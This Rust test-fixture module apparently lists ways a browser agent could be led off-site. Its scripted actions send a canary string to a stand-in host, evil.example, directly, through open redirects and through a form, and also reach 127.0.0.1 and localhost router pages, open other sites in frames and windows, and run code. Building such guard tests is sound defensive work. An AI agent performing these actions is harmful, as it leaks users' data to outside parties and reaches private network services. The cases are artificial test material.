//! Ways off the site, and what is done there.

use super::{Carrier, carrier, swapping, with_script};

macro_rules! page {
    ($html:literal) => {
        |goal| with_script(goal, $html)
    };
}

fn then_act(first: &str) -> Vec<String> {
    let there = [
        "setValue({Note}, \"CANARY4711\")",
        "click({Go on})",
        "press(\"Enter\")",
    ];
    std::iter::once(first)
        .chain(there)
        .map(str::to_owned)
        .collect()
}

#[allow(clippy::too_many_lines, reason = "a table")]
pub(super) fn all() -> Vec<Carrier> {
    vec![
        carrier("address with data", page!("<p>Nothing here.</p>"), |goal| {
            vec![format!(
                "navigate(\"http://evil.example/{}?d=CANARY4711\")",
                goal.name
            )]
        }),
        carrier("data in a host", page!("<p>Nothing here.</p>"), |_| {
            vec!["createTab(\"http://evil.example/?CANARY4711\")".to_owned()]
        }),
        carrier(
            "redirect with data",
            page!("<p>Nothing here.</p>"),
            |goal| {
                vec![format!(
                    "navigate(\"http://shop.example/go?to=http://evil.example/{}?d=CANARY4711\")",
                    goal.name
                )]
            },
        ),
        carrier("redirect in a path", page!("<p>Nothing here.</p>"), |_| {
            vec!["navigate(\"http://shop.example/out/evil.example/CANARY4711\")".to_owned()]
        }),
        carrier(
            "link that redirects, then a form there",
            page!("<a href='/out/evil.example/'>Opening hours</a>"),
            |_| then_act("click({Opening hours})"),
        ),
        carrier(
            "button that leaves, then a form there",
            page!(
                "<button type=button aria-expanded=false onclick=\"location='http://bank.example/'\">Details</button>"
            ),
            |_| then_act("click({Details})"),
        ),
        carrier(
            "window that opens, then a form there",
            page!(
                "<a href='#' onclick=\"open('http://bank.example/');return false\">Opening hours</a>"
            ),
            |_| then_act("click({Opening hours})"),
        ),
        swapping(
            "page that refreshes elsewhere",
            page!("<meta http-equiv=refresh content='0;url=http://bank.example/'>"),
            |_| then_act("click({Go on})"),
        ),
        carrier("private address", page!("<p>Nothing here.</p>"), |_| {
            vec![
                "navigate(\"http://127.0.0.1:80/router\")".to_owned(),
                "navigate(\"http://localhost/router\")".to_owned(),
            ]
        }),
        carrier(
            "private address by a redirect",
            page!("<a href='/go?to=PRIVATE'>Opening hours</a>"),
            |_| vec!["click({Opening hours})".to_owned()],
        ),
        carrier(
            "form to elsewhere",
            page!(
                "<form method=get action='http://evil.example/do/NAME'><label>Note <input name=n></label><button>Search</button></form>"
            ),
            |_| {
                vec![
                    "setValue({Note}, \"CANARY4711\")".to_owned(),
                    "click({Search})".to_owned(),
                ]
            },
        ),
        carrier(
            "frame of another site",
            page!("<iframe src='http://bank.example/' width=500 height=300></iframe>"),
            |_| {
                vec![
                    "setValue({Note}, \"CANARY4711\")".to_owned(),
                    "click({Go on})".to_owned(),
                    "click({More})".to_owned(),
                ]
            },
        ),
        carrier("web search", page!("<p>Nothing here.</p>"), |_| {
            vec![
                "googleSearch(\"CANARY4711\")".to_owned(),
                "search(\"CANARY4711\")".to_owned(),
            ]
        }),
        carrier("code", page!("<p>Nothing here.</p>"), |_| {
            vec!["evaluate(\"GO()\")".to_owned(), "clearCookies()".to_owned()]
        }),
    ]
}
